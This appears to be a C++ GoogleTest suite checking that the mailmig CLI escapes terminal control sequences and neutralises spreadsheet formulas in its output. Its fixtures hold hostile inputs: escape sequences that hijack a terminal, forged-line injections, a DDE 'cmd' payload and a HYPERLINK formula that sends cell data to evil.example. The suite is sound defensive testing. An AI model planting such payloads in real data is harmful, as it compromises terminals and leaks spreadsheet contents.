// Issue 14 §2: whatever a profile holds (escape sequences, CR, LF, bidi overrides, invalid
// UTF-8) cannot drive the terminal, forge a line or reorder text in what mailmig prints.
#include <SQLiteCpp/Database.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <boost/filesystem.hpp>
#include <cstdio>
#include <cstdlib>

#include "tests/cli/cli_test_support.h"

namespace mailmig::cli_testing {
namespace {

// Sets the terminal title, clears the screen, returns to the line start, reverses the text.
const std::string kHostileName =
    "Evil\x1B]0;owned\x07\x1B[2J\rFORGED-CR \xE2\x80\xAE"
    "exe.txt \xC2\x9B"
    "31m \xFF end";
const std::string kHostileHost = "pop.\x1B[31mevil.example";
// A folder name may hold a line feed: the forged line must not stand on its own line.
const std::string kHostileFolder = "mail\nFORGED-LF: 0 errors\x1B[2J";

// No byte that a terminal acts on: C0 controls but LF, DEL, C1 controls (U+0080-U+009F), the
// bidi embeddings, overrides and isolates; and valid UTF-8 throughout.
void expect_inert(const std::string& text, const std::string& what, bool tabs_allowed = false) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    const auto byte = static_cast<unsigned char>(text[i]);
    ASSERT_FALSE((byte < 0x20 && byte != '\n' && !(tabs_allowed && byte == '\t')) || byte == 0x7F)
        << what << ": raw control byte " << static_cast<int>(byte) << " at " << i << " in:\n"
        << text;
    ASSERT_NE(byte, 0xFF) << what << ": invalid UTF-8 at " << i;
    if (byte == 0xC2 && i + 1 < text.size()) {
      const auto next = static_cast<unsigned char>(text[i + 1]);
      ASSERT_FALSE(next >= 0x80 && next <= 0x9F) << what << ": raw C1 control at " << i;
    }
    if (byte == 0xE2 && i + 2 < text.size()) {
      const auto b1 = static_cast<unsigned char>(text[i + 1]);
      const auto b2 = static_cast<unsigned char>(text[i + 2]);
      ASSERT_FALSE(b1 == 0x80 && b2 >= 0xAA && b2 <= 0xAE) << what << ": raw bidi override";
      ASSERT_FALSE(b1 == 0x81 && b2 >= 0xA6 && b2 <= 0xA9) << what << ": raw bidi isolate";
    }
  }
  for (const std::string& line : split_lines(text)) {
    const std::size_t start = line.find_first_not_of(' ');
    if (start == std::string::npos) continue;
    EXPECT_NE(line.compare(start, 6, "FORGED"), 0) << what << ": forged line: " << line;
  }
}

class OutputInjectionTest : public ::testing::Test {
 protected:
  void SetUp() override {
    options_.tmpdir = sandbox_.tmp();
    folder_ = sandbox_.home() + "/" + kHostileFolder;
    boost::filesystem::create_directories(folder_);
    write_file_bytes(folder_ + "/accountrc",
                     "[Account: 1]\naccount_name=" + kHostileName +
                         "\nname=Taro\naddress=taro@club.kyutech.ac.jp\nprotocol=0\n"
                         "receive_server=pop3.club.kyutech.ac.jp\n"
                         "smtp_server=smtp.club.kyutech.ac.jp\nuser_id=taro\n"
                         "nntp_server=a\tb\nsignature_path=\x1B[8mhidden\n"
                         "[Account: 2]\naccount_name=second\nname=Hanako\n"
                         "address=hanako@example.org\nprotocol=0\nreceive_server=" +
                         kHostileHost + "\nsmtp_server=" + kHostileHost +
                         "\nuser_id=\x1B[8mhidden\n");
  }

  RunOutput run(std::vector<std::string> args) {
    args.insert(args.end(), {"--state-dir", sandbox_.state(), folder_ + "/accountrc"});
    return run_mailmig(args, options_);
  }

  Sandbox sandbox_;
  RunOptions options_;
  std::string folder_;
};

TEST_F(OutputInjectionTest, PlanTextShowsControlCharactersEscaped) {
  const RunOutput plan =
      run({"plan", "--policy", fixture_path("policies/tests/002-kyutech-every-seed-host.xml")});
  EXPECT_EQ(plan.exit_code, 4) << plan.out << plan.err;
  expect_inert(plan.out, "plan stdout");
  expect_inert(plan.err, "plan stderr");
  EXPECT_NE(plan.out.find("Evil\\x1b]0;owned\\x07\\x1b[2J\\rFORGED-CR \\u202eexe.txt \\u009b31m "
                          "\xEF\xBF\xBD end"),
            std::string::npos)
      << plan.out;
  EXPECT_NE(plan.out.find(": " + sandbox_.home() + "/mail\\nFORGED-LF: 0 errors\\x1b[2J\n"),
            std::string::npos)
      << plan.out;
  EXPECT_NE(plan.out.find("pop.\\x1b[31mevil.example"), std::string::npos) << plan.out;
}

TEST_F(OutputInjectionTest, ApplyTextAndDiffShowControlCharactersEscaped) {
  const RunOutput diff = run({"plan", "--format", "diff", "--policy",
                              fixture_path("policies/tests/002-kyutech-every-seed-host.xml")});
  expect_inert(diff.out, "diff stdout", true);
  // File lines are escaped, but a TAB (indentation in .oeaccount files) is kept.
  EXPECT_NE(diff.out.find("\n signature_path=\\x1b[8mhidden\n"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("\n nntp_server=a\tb"), std::string::npos) << diff.out;
  const RunOutput apply =
      run({"apply", "--policy", fixture_path("policies/tests/002-kyutech-every-seed-host.xml")});
  EXPECT_EQ(apply.exit_code, 0) << apply.out << apply.err;
  expect_inert(apply.out, "apply stdout");
  expect_inert(apply.err, "apply stderr");
  const RunOutput history = run_mailmig({"history", "--state-dir", sandbox_.state()}, options_);
  expect_inert(history.out, "history stdout");
  const RunOutput rollback = run_mailmig({"rollback", "--state-dir", sandbox_.state()}, options_);
  EXPECT_EQ(rollback.exit_code, 0) << rollback.out << rollback.err;
  expect_inert(rollback.out, "rollback stdout");
  expect_inert(rollback.err, "rollback stderr");
}

TEST_F(OutputInjectionTest, HistoryJsonOfAPathThatIsNotUtf8IsValidJson) {
  const std::string folder = sandbox_.home() + "/mail\xFF";
  boost::filesystem::create_directories(folder);
  write_file_bytes(folder + "/accountrc", read_file_bytes(folder_ + "/accountrc"));
  const RunOutput apply = run_mailmig(
      {"apply", "--state-dir", sandbox_.state(), "--policy",
       fixture_path("policies/tests/002-kyutech-every-seed-host.xml"), folder + "/accountrc"},
      options_);
  EXPECT_EQ(apply.exit_code, 0) << apply.err;
  const RunOutput history =
      run_mailmig({"history", "--format", "json", "--state-dir", sandbox_.state()}, options_);
  EXPECT_EQ(history.exit_code, 0) << history.err;
  const nlohmann::json runs = parse_json(history.out);
  ASSERT_EQ(runs.size(), 1u);
  EXPECT_EQ(runs[0]["files"][0].get<std::string>(),
            sandbox_.home() + "/mail\xEF\xBF\xBD/accountrc");
}

TEST_F(OutputInjectionTest, PolicyErrorsAndUndoAdviceShowControlCharactersEscaped) {
  const std::string policy = sandbox_.path("policy\x1B[2J\nFORGED.xml");
  write_file_bytes(policy, "<policy>\x1B]0;owned\x07</oops>");
  const RunOutput invalid = run({"plan", "--policy", policy});
  EXPECT_EQ(invalid.exit_code, 2) << invalid.err;
  EXPECT_NE(invalid.err.find("policy\\x1b[2J\\nFORGED.xml"), std::string::npos) << invalid.err;
  expect_inert(invalid.err, "invalid policy stderr");

  const std::string state = sandbox_.path("state\x1B[2J\nFORGED");
  const RunOutput apply = run_mailmig(
      {"apply", "--state-dir", state, "--policy",
       fixture_path("policies/tests/002-kyutech-every-seed-host.xml"), folder_ + "/accountrc"},
      options_);
  EXPECT_EQ(apply.exit_code, 0) << apply.err;
  // Escaped, and quoted as one word of the undo command.
  EXPECT_NE(apply.out.find("--state-dir '" + sandbox_.root() + "/state\\x1b[2J\\nFORGED'\n"),
            std::string::npos)
      << apply.out;
  expect_inert(apply.out, "apply stdout");
}

TEST_F(OutputInjectionTest, ErrorsOnStderrShowControlCharactersEscaped) {
  write_file_bytes(folder_ + "/accountrc", "[Account: 1\nreceive_server=\x1B[2J\n");
  const RunOutput quiet = run({"plan", "-q"});
  EXPECT_EQ(quiet.exit_code, 1) << quiet.out << quiet.err;
  EXPECT_NE(quiet.err.find("mail\\nFORGED-LF"), std::string::npos) << quiet.err;
  expect_inert(quiet.err, "plan -q stderr");
  const RunOutput text = run({"plan"});
  expect_inert(text.out, "plan stdout");
}

TEST_F(OutputInjectionTest, ReportSummaryTextShowsControlCharactersEscaped) {
  const std::string db = sandbox_.path("report.db");
  const RunOutput plan = run({"plan", "--report", db, "--policy",
                              fixture_path("policies/tests/002-kyutech-every-seed-host.xml")});
  EXPECT_EQ(plan.exit_code, 4) << plan.out << plan.err;
  const RunOutput summary = run_mailmig({"report", "summary", db}, options_);
  EXPECT_EQ(summary.exit_code, 0) << summary.err;
  expect_inert(summary.out, "summary stdout");
  EXPECT_NE(summary.out.find("mail\\nFORGED-LF"), std::string::npos) << summary.out;
}

TEST_F(OutputInjectionTest, RefusedMergeInputsAreNamedOnceWithTheirNamesEscaped) {
  const std::string good = sandbox_.path("good.db");
  ASSERT_EQ(run({"plan", "--report", good}).exit_code, 4);
  const std::string hostile = sandbox_.path("hostile.db");
  write_file_bytes(hostile, read_file_bytes(good));
  {
    SQLite::Database db(hostile, SQLite::OPEN_READWRITE);
    db.exec("CREATE VIEW \"v\x1B]0;owned\x07\nFORGED\" AS SELECT 1");
  }
  const RunOutput merge =
      run_mailmig({"report", "merge", sandbox_.path("all.db"), hostile, good}, options_);
  EXPECT_EQ(merge.exit_code, 1);
  EXPECT_EQ(merge.err, "mailmig: " + hostile +
                           ": refused: its view \"v\\x1b]0;owned\\x07\\nFORGED\" is not part of "
                           "a mailmig report\n");
  EXPECT_EQ(merge.out, "Merged 1 reports: 1 runs added, 0 already there.\n");
  expect_inert(merge.err, "merge stderr");
}

// Reads `csv_path` with Python's csv module (what a spreadsheet-bound script would use) and
// prints one cell a line, with a line end inside a cell written as "\\n".
std::vector<std::string> cells_read_by_python(const std::string& csv_path) {
  const std::string command =
      "python3 -c 'import csv,sys\n"
      "for row in csv.reader(open(sys.argv[1], newline=\"\", "
      "encoding=\"utf-8\")):\n"
      "  for cell in row: print(cell.replace(\"\\n\", \"\\\\n\"))' " +
      csv_path;
  std::vector<std::string> cells;
  FILE* pipe = popen(command.c_str(), "r");
  if (pipe == nullptr) return cells;
  std::string text;
  char buffer[4096];
  while (const std::size_t got = fread(buffer, 1, sizeof buffer, pipe)) text.append(buffer, got);
  EXPECT_EQ(pclose(pipe), 0) << "python3 could not read " << csv_path;
  return split_lines(text);
}

TEST_F(OutputInjectionTest, CsvCellsNeverStartLikeAFormula) {
  if (std::system("python3 -c pass") != 0) GTEST_SKIP() << "python3 is not installed";
  write_file_bytes(
      folder_ + "/accountrc",
      "[Account: 1]\naccount_name=@SUM(1+1)*cmd|' /C calc'!A0\nname=Taro\n"
      "address=taro@club.kyutech.ac.jp\nprotocol=0\n"
      "receive_server=pop3.club.kyutech.ac.jp\nsmtp_server=smtp.club.kyutech.ac.jp\n"
      "user_id=+cmd|' /C calc'!A0\n"
      "[Account: 2]\naccount_name=two\nname=Hanako\naddress=-2+3@example.org\nprotocol=0\n"
      "receive_server==HYPERLINK(\"http://evil.example/?\"&A1,\"x\")\n"
      "smtp_server=smtp.example.org\nuser_id=hanako\n");
  const std::string db = sandbox_.path("report.db");
  const RunOutput plan = run({"plan", "--format", "csv", "--report", db, "--policy",
                              fixture_path("policies/tests/002-kyutech-every-seed-host.xml")});
  EXPECT_EQ(plan.exit_code, 4) << plan.err;
  write_file_bytes(sandbox_.path("plan.csv"), plan.out);
  const RunOutput summary = run_mailmig({"report", "summary", db, "--format", "csv"}, options_);
  EXPECT_EQ(summary.exit_code, 0) << summary.err;
  write_file_bytes(sandbox_.path("summary.csv"), summary.out);

  for (const char* file : {"plan.csv", "summary.csv"}) {
    const std::vector<std::string> cells = cells_read_by_python(sandbox_.path(file));
    ASSERT_FALSE(cells.empty()) << file;
    for (const std::string& cell : cells) {
      EXPECT_TRUE(cell.empty() || std::string("=+-@\t\r").find(cell[0]) == std::string::npos)
          << file << ": a cell a spreadsheet runs: " << cell;
    }
    EXPECT_NE(std::find(cells.begin(), cells.end(), "'@SUM(1+1)*cmd|' /C calc'!A0"), cells.end())
        << file;
  }
  const std::vector<std::string> plan_cells = cells_read_by_python(sandbox_.path("plan.csv"));
  for (const std::string expected : {"'+cmd|' /C calc'!A0", "'-2+3@example.org",
                                     "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"}) {
    EXPECT_NE(std::find(plan_cells.begin(), plan_cells.end(), expected), plan_cells.end())
        << expected << " not in:\n"
        << testing::PrintToString(plan_cells);
  }
}

}  // namespace
}  // namespace mailmig::cli_testing
